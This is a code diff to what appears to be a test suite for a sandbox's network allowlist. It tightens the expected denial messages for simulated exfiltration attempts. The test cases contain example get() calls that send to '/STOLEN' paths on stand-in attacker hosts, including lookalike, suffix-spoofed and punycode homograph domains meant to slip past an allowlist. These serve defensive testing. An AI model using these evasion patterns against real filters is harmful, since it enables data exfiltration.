@@ -166,10 +166,12 @@ _ATTACKS = {
         f"get('http://evil.example.net/STOLEN', place=({OTHER!r}, 80))",
     ),
     "name_that_begins_like_a_listed_one": Attack(
-        "get('http://example.org.example.net/STOLEN')", {"path": "/STOLEN"}, "not in network.allow"
+        "get('http://example.org.example.net/STOLEN')",
+        {"path": "/STOLEN"},
+        "example.org.example.net:80 is not in network.allow",
     ),
     "name_that_ends_like_a_listed_one": Attack(
-        "get('http://evil-example.org/STOLEN')", {"path": "/STOLEN"}, "not in network.allow"
+        "get('http://evil-example.org/STOLEN')", {"path": "/STOLEN"}, "evil-example.org:80 is not in network.allow"
     ),
     "name_that_looks_like_a_listed_one": Attack(
         "get('http://xn--exmple-4nf.org/STOLEN')", {"path": "/STOLEN"}, "xn--exmple-4nf.org:80 is not in network.allow"
@@ -479,7 +481,7 @@ def test_guest_that_reads_nothing_holds_only_itself(internet: Internet) -> None:
         "b'GET http://example.org/bytes?count=50000000 HTTP/1.1\\r\\nHost: example.org\\r\\n\\r\\n'); socks.append(sock)\n"
         "time.sleep(0.5); print(get('http://example.org/x')[9:12])"
     )
-    result, use, _ = _run(internet, code)
+    result, use, _ = _run(internet, code, rate="unlimited")
     assert result.stdout == "b'200'\n" and use.received < 60_000_000
 
 
